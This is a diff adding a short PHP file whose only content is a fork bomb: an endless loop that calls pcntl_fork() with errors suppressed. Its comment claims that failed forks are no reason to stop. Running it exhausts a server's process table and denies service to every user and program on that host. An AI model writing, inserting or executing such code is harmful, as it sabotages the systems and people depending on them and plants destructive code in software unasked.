@@ -1,0 +1,5 @@
+<?php
+// Children that cannot be made are no reason to stop: the limit of processes holds, and time ends it.
+while (true) {
+    @pcntl_fork();
+}
